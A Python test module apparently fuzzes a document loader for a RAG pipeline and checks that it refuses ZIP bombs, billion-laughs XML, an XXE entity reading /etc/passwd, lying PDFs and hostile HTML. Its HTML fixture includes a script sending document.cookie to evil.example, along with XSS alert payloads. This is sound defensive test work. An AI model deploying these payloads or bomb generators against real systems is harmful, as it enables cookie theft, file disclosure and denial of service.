"""Hostile files: fuzzed and mutated bytes never crash or hang the loader; bombs and giants are refused by limits."""

from __future__ import annotations

import io
import multiprocessing
import re
import struct
import time
import zipfile
import zlib
from datetime import timedelta
from functools import lru_cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, note, settings
from hypothesis import strategies as st

from ingest.load import MAX_ZIP_MEMBERS, LoadError, LoadLimits, default_limits, load_bytes, load_file
from rag.records import SourceDocument
from rag.settings import Settings
from tests.conftest import make_settings
from tests.documents import SYNTHETIC_LINES, make_docx, make_html, make_pdf

PARSE_TIMEOUT_S = 5.0  # the loader's own bound for one file in these tests
TIME_BOUND_S = PARSE_TIMEOUT_S + 5.0  # plus killing and reaping the parser process on a busy machine
FUZZ = settings(
    max_examples=300,
    deadline=timedelta(seconds=TIME_BOUND_S),
    derandomize=True,  # the same cases on every run and in CI
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
MiB = 1024 * 1024


# ---- seeds ---------------------------------------------------------------------------------------


def _markdown() -> bytes:
    body = "\n\n".join(SYNTHETIC_LINES)
    return f"---\ntitle: Công văn thử\nissued_date: 2024-03-15\n---\n# Công văn\n\n{body}\n".encode()


def _plain_pdf() -> bytes:
    # Uncompressed page content, so byte mutations reach pypdf's content-stream parser, not only zlib.
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pageCompression=0)
    for i, line in enumerate(["Dieu 1. Pham vi dieu chinh", "Dieu 2. Doi tuong ap dung", "Khoan 3 (a) [b] <c>"]):
        c.drawString(50, 800 - 20 * i, line)
    c.showPage()
    c.drawString(50, 800, "Trang hai")
    c.save()
    return buf.getvalue()


@lru_cache(maxsize=1)
def seeds() -> dict[str, bytes]:
    """One valid file per format, built on the fly."""
    return {
        "x.docx": make_docx(),
        "x.pdf": make_pdf(),
        "plain.pdf": _plain_pdf(),
        "x.html": make_html(),
        "x.md": _markdown(),
        "x.txt": "\n".join(SYNTHETIC_LINES).encode(),
    }


def _rezip(docx: bytes, replace: dict[str, bytes]) -> bytes:
    """The DOCX with some members' bytes replaced (or added)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in replace.items():
            if name not in src.namelist():
                dst.writestr(name, data)
    return out.getvalue()


# ---- the property --------------------------------------------------------------------------------


def assert_loads_or_refuses(data: bytes, name: str) -> None:
    """A SourceDocument with text, or a LoadError with a readable message, within the time bound."""
    note(f"{name}: {len(data)} bytes, starting {data[:40]!r}")
    started = time.monotonic()
    try:
        src = load_bytes(data, name, timeout_s=PARSE_TIMEOUT_S)
    except LoadError as exc:
        message = str(exc)
        assert message.strip() and message.isprintable(), repr(message)
        event(f"refused: {re.sub(r'[0-9,.]+', 'N', message)[:48]}")
    else:
        assert isinstance(src, SourceDocument) and isinstance(src.text, str) and src.text.strip()
        event(f"loaded as {src.format}")
    elapsed = time.monotonic() - started
    assert elapsed < TIME_BOUND_S, f"{name} took {elapsed:.1f}s (bound {TIME_BOUND_S}s)"


MAGIC = [b"%PDF-1.7\n", b"%PDF-", b"PK\x03\x04", b"PK\x03\x04\x14\x00\x06\x00", b"<!DOCTYPE html><html>",
         b"<html><body>", b"<body></", b"---\n", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff",
         b"\xd0\xcf\x11\xe0", b"", b"# ", b"\x00"]
NAMES = ["f.md", "f.txt", "f.pdf", "f.docx", "f.html", "f"]


@pytest.mark.timeout(300)
@FUZZ
@given(prefix=st.sampled_from(MAGIC), body=st.binary(max_size=4096), name=st.sampled_from(NAMES))
def test_random_bytes_behind_each_magic_prefix(prefix: bytes, body: bytes, name: str) -> None:
    assert_loads_or_refuses(prefix + body, name)


@st.composite
def mutated(draw: st.DrawFn) -> tuple[bytes, str]:
    """A valid seed after a few byte flips, truncations, splices, junk insertions and deletions."""
    name = draw(st.sampled_from(sorted(seeds())))
    data = bytearray(seeds()[name])
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["flip", "truncate", "splice", "junk", "delete", "repeat"]))
        at = draw(st.integers(0, max(len(data) - 1, 0)))
        if op == "flip" and data:
            data[at] ^= draw(st.integers(1, 255))
        elif op == "truncate":
            del data[at:]
        elif op == "splice":
            other = seeds()[draw(st.sampled_from(sorted(seeds())))]
            start = draw(st.integers(0, len(other) - 1))  # seeds are never empty
            data[at:at] = other[start:start + draw(st.integers(1, 512))]
        elif op == "junk":
            data[at:at] = draw(st.binary(min_size=1, max_size=64))
        elif op == "delete":
            del data[at:at + draw(st.integers(1, 256))]
        elif op == "repeat":
            data[at:at] = bytes(data[at:at + 64]) * draw(st.integers(2, 50))
    return bytes(data), name


@pytest.mark.timeout(300)
@FUZZ
@given(case=mutated())
def test_mutated_seed_files(case: tuple[bytes, str]) -> None:
    assert_loads_or_refuses(*case)


@st.composite
def mutated_docx_xml(draw: st.DrawFn) -> bytes:
    """A well-formed ZIP around a mutated document.xml (byte mutations of the ZIP mostly just fail its CRC)."""
    with zipfile.ZipFile(io.BytesIO(seeds()["x.docx"])) as zf:
        xml = bytearray(zf.read("word/document.xml"))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, max(len(xml) - 1, 0)))
        op = draw(st.sampled_from(["flip", "truncate", "junk", "markup"]))
        if op == "flip" and xml:
            xml[at] ^= draw(st.integers(1, 255))
        elif op == "truncate":
            del xml[at:]
        elif op == "junk":
            xml[at:at] = draw(st.binary(min_size=1, max_size=32))
        else:
            xml[at:at] = draw(st.sampled_from([b"<!-- c -->", b"<?pi x?>", b"<w:p>", b"</w:t>", b"&amp;", b"&x;",
                                               b"<![CDATA[z]]>", b"<w:tbl><w:tr><w:tc>", b"\x00", b"\xff"]))
    return _rezip(seeds()["x.docx"], {"word/document.xml": bytes(xml)})


@pytest.mark.timeout(300)
@FUZZ
@given(data=mutated_docx_xml())
def test_mutated_docx_xml(data: bytes) -> None:
    assert_loads_or_refuses(data, "x.docx")


def test_seeds_load() -> None:
    for name, data in seeds().items():
        assert load_bytes(data, name).text.strip(), name


# ---- DOCX: ZIP bombs and XML entities -------------------------------------------------------------


def _docx_with_padding(size: int, name: str = "word/media/padding.bin") -> bytes:
    """A valid DOCX plus one member of `size` zero bytes, deflated as it is written (cheap in memory)."""
    buf = io.BytesIO(make_docx())
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w", force_zip64=False) as f:
        chunk = bytes(MiB)
        for _ in range(size // MiB):
            f.write(chunk)
    return buf.getvalue()


def _refused(data: bytes, name: str, *, within_s: float, **kwargs: object) -> str:
    started = time.monotonic()
    with pytest.raises(LoadError) as info:
        load_bytes(data, name, **kwargs)  # type: ignore[arg-type]
    elapsed = time.monotonic() - started
    assert elapsed < within_s, f"refusal took {elapsed:.2f}s"
    return str(info.value)


def test_zip_bomb_docx_is_refused_before_inflating() -> None:
    bomb = _docx_with_padding(300 * MiB)
    assert len(bomb) < 400_000  # 300 MiB of zeros deflate to ~300 kB
    message = _refused(bomb, "bomb.docx", within_s=2.0)
    assert "unpacks to 300.8 MiB" in message and "200.0 MiB" in message
    assert "POLICYQA_MAX_UNZIPPED_BYTES" in message


def test_highly_compressed_member_is_refused_as_a_bomb() -> None:
    message = _refused(_docx_with_padding(50 * MiB), "ratio.docx", within_s=2.0)  # under the total limit
    assert "ZIP bomb" in message and "word/media/padding.bin" in message and "expands 1,0" in message


def _docx_with_padded_xml(size: int) -> bytes:
    """A valid DOCX whose document.xml ends in `size` spaces (legal XML), deflated as it is written."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_docx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open("word/document.xml", "w") as f:
            f.write(src.read("word/document.xml"))
            for _ in range(size // MiB):
                f.write(b" " * MiB)
    return out.getvalue()


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """The ZIP with `member`'s uncompressed size rewritten in its central and local headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        infos = [i for i in zf.infolist() if i.filename == member]
    struct.pack_into("<I", out, infos[-1].header_offset + 22, size)
    pos = out.find(b"PK\x01\x02")
    while pos >= 0:
        (name_len,) = struct.unpack_from("<H", out, pos + 28)
        if out[pos + 46:pos + 46 + name_len] == member.encode() and struct.unpack_from("<I", out, pos + 42)[0] == \
                infos[-1].header_offset:
            struct.pack_into("<I", out, pos + 24, size)
        pos = out.find(b"PK\x01\x02", pos + 46)
    return bytes(out)


def test_declared_sizes_cannot_lie() -> None:
    honest = _docx_with_padded_xml(50 * MiB)
    assert "ZIP bomb" in _refused(honest, "honest.docx", within_s=2.0)
    # The same part declaring 1 kB: zipfile stops inflating at the declared size and fails the CRC.
    message = _refused(_declare_size(honest, "word/document.xml", 1000), "liar.docx", within_s=3.0)
    assert "CRC" in message, message


def test_too_many_zip_members_are_refused() -> None:
    buf = io.BytesIO(make_docx())
    with zipfile.ZipFile(buf, "a") as zf:
        for i in range(MAX_ZIP_MEMBERS + 1):
            zf.writestr(f"m/{i}", b"")
    message = _refused(buf.getvalue(), "many.docx", within_s=5.0)
    assert re.fullmatch(rf"DOCX has 10,0\d\d ZIP members; the limit is {MAX_ZIP_MEMBERS:,}", message), message


def test_huge_zip_directory_is_refused_before_zipfile_reads_it() -> None:
    buf = io.BytesIO(make_docx())
    with zipfile.ZipFile(buf, "a") as zf:
        for i in range(20_000):
            zf.writestr(f"word/{'n' * 200}{i}", b"")
    message = _refused(buf.getvalue(), "dir.docx", within_s=2.0)
    assert "ZIP directory is" in message


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE w:document [
 <!ENTITY a "lollollollollollollollollollol">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"> <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"> <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"> <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"> <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE w:document [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Nội dung &xxe; hết</w:t></w:r></w:p><!-- a comment --><w:p><w:r><w:t>Đoạn hai</w:t></w:r></w:p>
</w:body></w:document>""".encode()


def test_billion_laughs_docx_is_refused() -> None:
    message = _refused(_rezip(make_docx(), {"word/document.xml": BILLION_LAUGHS}), "lol.docx", within_s=3.0)
    assert "amplification" in message, message


def test_external_entity_is_not_resolved() -> None:
    src = load_bytes(_rezip(make_docx(), {"word/document.xml": EXTERNAL_ENTITY}), "xxe.docx")
    assert "root:" not in src.text
    assert "Nội dung" in src.text and "Đoạn hai" in src.text  # comments and entity nodes are skipped


# ---- PDF: page counts and time --------------------------------------------------------------------


def _blank_pdf(pages: int) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def test_huge_pdf_is_refused_by_the_page_limit() -> None:
    limit = default_limits().max_pdf_pages
    message = _refused(_blank_pdf(limit * 5), "huge.pdf", within_s=2.0)
    assert f"PDF has {limit * 5:,} pages; the limit is {limit:,} (POLICYQA_MAX_PDF_PAGES)" == message


def test_pdf_whose_page_count_lies_is_refused_by_the_walk() -> None:
    limit = default_limits().max_pdf_pages
    data = _blank_pdf(limit + 500)
    declared = f"/Count {limit + 500}".encode()
    assert data.count(declared) == 1
    data = data.replace(declared, b"/Count 1".ljust(len(declared)))  # same length: the xref offsets hold
    message = _refused(data, "liar.pdf", within_s=10.0)
    assert f"PDF has {limit + 500:,} pages" in message


def _slow_pdf(content_mb: int) -> bytes:
    """A small PDF whose one page inflates to megabytes of text operators (~1 s per MB for pypdf)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, StreamObject

    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})
    line = b"BT /F1 12 Tf 10 10 Td (abc) Tj ET\n"
    stream = StreamObject()
    stream._data = zlib.compress(line * (content_mb * 1_000_000 // len(line)), 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def test_slow_pdf_is_stopped_at_the_time_limit_and_its_parser_killed() -> None:
    data = _slow_pdf(40)
    assert len(data) < 200_000
    message = _refused(data, "slow.pdf", within_s=4.0, timeout_s=1.0)
    assert message == "PDF parser timed out after 1s (POLICYQA_PARSE_TIMEOUT_S)"
    assert multiprocessing.active_children() == []  # killed and reaped, not left running


# ---- HTML, text and files ------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>TIÊU ĐỀ ẨN</title>
<script>var stolen = document.cookie; fetch('https://evil.example/?c=' + stolen);</script>
<style>body { background: url("javascript:alert('css')") }</style>
<meta http-equiv="refresh" content="0;url=javascript:alert('meta')"></head>
<body onload="alert('onload')">
<h1 onclick="alert('h1')">Công văn số 12/UBND</h1>
<p onmouseover="alert('hover')">Nội dung <b>chính</b> của văn bản.<script>alert('inline')</script></p>
<iframe src="javascript:alert('frame')">fallback iframe text</iframe>
<p><a href="javascript:alert('link')">Xem chi tiết</a> và <img src=x onerror="alert('img')"></p>
<noscript>noscript text</noscript><template><p>template text</p></template>
<object data="x.swf">object fallback</object><embed src="x.swf">
<svg><script>alert('svg')</script><text>vẽ</text></svg>
<p>Cuối văn bản<!-- hidden comment --></p>
<script>unterminated = "alert('eof')"
</body></html>"""


def test_html_with_scripts_is_reduced_to_visible_text() -> None:
    src = load_bytes(HOSTILE_HTML.encode(), "x.html")
    assert src.format == "html"
    for visible in ("Công văn số 12/UBND", "Nội dung chính của văn bản.", "Xem chi tiết", "Cuối văn bản"):
        assert visible in src.text, (visible, src.text)
    for hidden in ("alert", "javascript", "cookie", "evil.example", "stolen", "background", "TIÊU ĐỀ ẨN",
                   "fallback iframe", "noscript text", "template text", "object fallback", "hidden comment"):
        assert hidden not in src.text, (hidden, src.text)


def test_text_limits_name_their_setting(tmp_path: Path) -> None:
    small = LoadLimits.from_settings(make_settings(tmp_path, max_text_chars=1000, max_pdf_pages=1))
    md = ("# Tiêu đề\n\n" + "Nội dung thử nghiệm. " * 100).encode()
    assert "1,000 (POLICYQA_MAX_TEXT_CHARS)" in _refused(md, "a.md", within_s=1.0, limits=small)
    html = b"<html><body>" + b"<div class='x'></div>" * 100 + "<p>ngắn</p></body></html>".encode()
    assert "HTML (markup included)" in _refused(html, "a.html", within_s=1.0, limits=small)
    assert "POLICYQA_MAX_PDF_PAGES" in _refused(_plain_pdf(), "a.pdf", within_s=3.0, limits=small)
    assert load_bytes("# ok\n\nNgắn.".encode(), "b.md", limits=small).text


def test_defaults_are_the_settings_defaults() -> None:
    assert default_limits() == LoadLimits.from_settings(Settings.model_construct())
    assert default_limits().max_file_bytes == 100 * MiB and default_limits().max_pdf_pages == 2000


def test_large_legitimate_documents_still_load() -> None:
    # ~400 pages of law text as DOCX (with a table) and as HTML: well inside every limit, and quick.
    lines = [f"Điều {i}. Quy định về việc tổ chức thực hiện khoản {i % 7}, điểm {'abcdđ'[i % 5]})."
             for i in range(12_000)]
    started = time.monotonic()
    docx = load_bytes(make_docx(lines), "luat.docx", timeout_s=60)
    html = load_bytes(make_html(lines), "luat.html", timeout_s=60)
    assert "Điều 11999." in docx.text and "Điều 11999." in html.text
    assert time.monotonic() - started < 30


def test_oversized_file_is_refused_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "big.pdf"
    with big.open("wb") as f:  # sparse: no disk space, no reading
        f.truncate(default_limits().max_file_bytes + 1)
    started = time.monotonic()
    with pytest.raises(LoadError, match=r"file is 100\.0 MiB; the limit is 100\.0 MiB \(POLICYQA_MAX_FILE_BYTES\)"):
        load_file(big)
    assert time.monotonic() - started < 0.5


def test_device_behind_a_supported_name_is_refused(tmp_path: Path) -> None:
    link = tmp_path / "zero.txt"
    link.symlink_to("/dev/zero")
    with pytest.raises(LoadError, match="not a regular file"):
        load_file(link)


def test_hostile_front_matter_is_a_load_error() -> None:
    with pytest.raises(LoadError, match="invalid YAML front matter: ValueError"):
        load_bytes(b"---\nissued_date: 2024-13-45\n---\n# x\n\nNoi dung\n", "a.md")  # month 13
    with pytest.raises(LoadError, match="invalid YAML front matter"):
        load_bytes(b"---\nk: " + b"[" * 5000 + b"\n---\nNoi dung\n", "a.md")  # nesting past the recursion limit
    with pytest.raises(LoadError, match="front matter is 70,000 characters"):
        load_bytes(b"---\nk: " + b"x" * 69_997 + b"\n---\nNoi dung\n", "a.md")


# ---- through the real pipeline -------------------------------------------------------------------


@pytest.mark.slow
def test_hostile_files_are_reported_and_the_rest_ingested(engine_factory, tmp_path: Path) -> None:  # noqa: ANN001
    from ingest.pipeline import ingest_paths

    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "thong-bao.md").write_text(
        "# Thông báo\n\n1. Các phòng ban nộp báo cáo quý trước ngày 15.\n\n2. Lãnh đạo họp giao ban thứ Hai.\n",
        encoding="utf-8")
    (folder / "cong-van.docx").write_bytes(make_docx())
    (folder / "bom.docx").write_bytes(_docx_with_padding(300 * MiB))
    (folder / "lol.docx").write_bytes(_rezip(make_docx(), {"word/document.xml": BILLION_LAUGHS}))
    (folder / "to.pdf").write_bytes(_blank_pdf(default_limits().max_pdf_pages + 1))
    (folder / "hong.html").write_bytes(b"<html><body>\x00\xff\xfe<script>alert(1)</script>")
    engine = engine_factory()
    report = ingest_paths(engine.store, [folder])
    failed = {Path(f.path).name: f.error for f in report.failed}
    assert set(failed) == {"bom.docx", "lol.docx", "to.pdf", "hong.html"}, failed
    assert "POLICYQA_MAX_UNZIPPED_BYTES" in failed["bom.docx"]
    assert "amplification" in failed["lol.docx"]
    assert "POLICYQA_MAX_PDF_PAGES" in failed["to.pdf"]
    assert report.documents == 2 and set(report.ingested) == {"thong-bao", "cong-van"}, report
